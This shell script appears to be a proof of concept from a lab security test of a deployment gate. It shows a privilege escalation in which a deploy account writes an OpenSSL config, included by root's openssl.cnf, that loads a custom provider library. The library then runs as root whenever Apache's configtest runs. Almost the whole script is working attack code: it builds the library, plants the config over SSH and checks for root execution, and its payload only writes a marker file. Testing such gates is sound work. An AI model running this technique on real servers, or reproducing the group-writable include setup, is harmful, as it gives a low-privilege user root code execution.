#!/bin/sh
# The verdict before root runs apache2ctl judges Apache's files and envvars, not the library configuration a module
# loads as root: with mod_ssl enabled, `apache2 -t` (the gate's root collector's configtest, bootstrap's configtest
# and graceful) initialises OpenSSL, which reads /etc/ssl/openssl.cnf and what it `.include`s, and dlopens the
# providers and engines named there. Precondition: root's openssl.cnf includes a file in a directory the deploy login
# may write (/srv/sslconf, 2775 root:deployer: "the team's TLS settings"). The deploy login's file names its library.
# Usage: attack7/atk_openssl_conf.sh /tmp/atk7     (gcc on the runner builds attack7's p.c: a constructor that
# writes its uid to /tmp/root-ran)
set -eu
W=${1:-/tmp/atk7}; HERE=$(cd "$(dirname "$0")" && pwd)
PORT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['ssh'])")
APP=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['app'])")
CT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['container'])")
gcc -shared -fPIC -o $W/p.so $HERE/p.c
docker exec "$CT" sh -c "a2enmod -q ssl >/dev/null; install -d -m 2775 -o root -g deployer /srv/sslconf && touch /srv/sslconf/team.cnf && chown root:deployer /srv/sslconf/team.cnf && chmod 664 /srv/sslconf/team.cnf && cp /etc/ssl/openssl.cnf /root/openssl.cnf.orig && sed -i '1i .include /srv/sslconf/team.cnf' /etc/ssl/openssl.cnf && apache2ctl graceful && rm -f /tmp/root-ran"
echo "--- root's openssl.cnf starts: $(docker exec $CT head -1 /etc/ssl/openssl.cnf)"
scp -q -F $W/ssh_config $W/p.so deployer:/srv/sslconf/p.so
ssh -F $W/ssh_config deployer 'printf "openssl_conf = team_init\n[team_init]\nproviders = team_providers\n[team_providers]\nteam = team_sect\ndefault = default_sect\n[team_sect]\nmodule = /srv/sslconf/p.so\nactivate = 1\n[default_sect]\nactivate = 1\n" > /srv/sslconf/team.cnf; ls -l /srv/sslconf'
echo "--- the gate (read-only, as admin): its root collector runs apache2ctl configtest"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed" || true
echo "--- /tmp/root-ran after the gate:"; docker exec "$CT" sh -c 'cat /tmp/root-ran 2>/dev/null || echo "(none)"'
cd "$APP" && echo 'from deploytests.tasks import *  # noqa' > fabfile.py
DEPLOYTESTS_KNOWN_HOSTS=$W/known_hosts timeout 300 fab -H admin@127.0.0.1:$PORT -i $W/id_ed25519 bootstrap 2>&1 | grep -E "bootstrap " | cut -c1-300
echo "--- /tmp/root-ran after bootstrap:"; docker exec "$CT" sh -c 'cat /tmp/root-ran 2>/dev/null || echo "(none)"'
[ -n "${KEEP:-}" ] || docker exec "$CT" sh -c 'cp /root/openssl.cnf.orig /etc/ssl/openssl.cnf; rm -rf /srv/sslconf /tmp/root-ran; a2dismod -q ssl socache_shmcb; apache2ctl graceful'
